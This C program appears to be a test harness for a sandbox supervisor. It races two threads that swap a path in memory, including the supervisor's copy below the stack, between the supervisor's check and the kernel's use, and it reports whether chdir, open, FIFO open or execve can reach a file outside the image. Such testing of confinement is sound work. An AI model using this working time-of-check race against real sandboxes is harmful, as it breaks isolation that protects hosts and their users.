/* Changes a path in memory between the supervisor's look at it and the kernel's: tries to get at a file
 * outside of the image. usage: race CALL HARMLESS OUTSIDE SECONDS; prints "outside" where that succeeds. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static char path[4096];
static const char *names[2];
static volatile int done;

static void *flip(void *unused)
{
    while (!done)
        for (int which = 0; which < 2; which++) {
            memcpy(path, names[which], strlen(names[which]) + 1);
            /* At another place of the two-step each time. */
            for (volatile int turn = rand() % 3000; turn > 0; turn--)
                ;
        }
    return unused;
}

/* The supervisor gives the call another place in memory for its path, below the stack of the caller. */
static void *overwrite(void *stack)
{
    const char *name = strrchr(names[0], '/');
    size_t length = strlen(name) + 1;
    char *from = (char *)stack - 2048, *to = (char *)stack - 300;
    while (!done) {
        char *at = memmem(from, to - from, name, length);
        if (!at)
            continue;
        while (at > from && at[-1])
            at--;
        memcpy(at, names[1], strlen(names[1]) + 1);
    }
    return NULL;
}

static void tell(int descriptor)
{
    char text[8] = "";
    if (descriptor >= 0 && read(descriptor, text, 7) == 7 && !memcmp(text, "outside", 7))
        write(1, "outside\n", 8);
    if (descriptor >= 0)
        close(descriptor);
}

static void attack(const char *call, time_t end)
{
    pthread_t first, second;
    char here;
    pthread_create(&first, NULL, flip, NULL);
    pthread_create(&second, NULL, overwrite, &here);
    while (time(NULL) < end) {
        if (!strcmp(call, "chdir")) {
            if (chdir(path) == 0)
                tell(open("secret", O_RDONLY));
        } else if (!strcmp(call, "path")) {
            int folder = open(path, O_PATH | O_DIRECTORY);
            if (folder >= 0) {
                tell(openat(folder, "secret", O_RDONLY));
                close(folder);
            }
        } else if (!strcmp(call, "fifo")) {
            tell(open(path, O_RDONLY | O_NONBLOCK));
        } else {
            char *const argv[] = {"race", "told", NULL}, *const environment[] = {NULL};
            pid_t child = vfork();
            if (!child) {
                execve(path, argv, environment);
                _exit(1);
            }
            waitpid(child, NULL, 0);
        }
    }
    done = 1;
}

int main(int count, char **words)
{
    if (count == 2)
        return write(1, "outside\n", 8) < 0;
    if (count != 5)
        return 2;
    names[0] = words[2];
    names[1] = words[3];
    strcpy(path, names[0]);
    time_t end = time(NULL) + atoi(words[4]);
    while (time(NULL) < end) {
        pid_t child = fork();
        if (!child) {
            attack(words[1], end);
            _exit(0);
        }
        waitpid(child, NULL, 0);
    }
    puts("over");
    return 0;
}
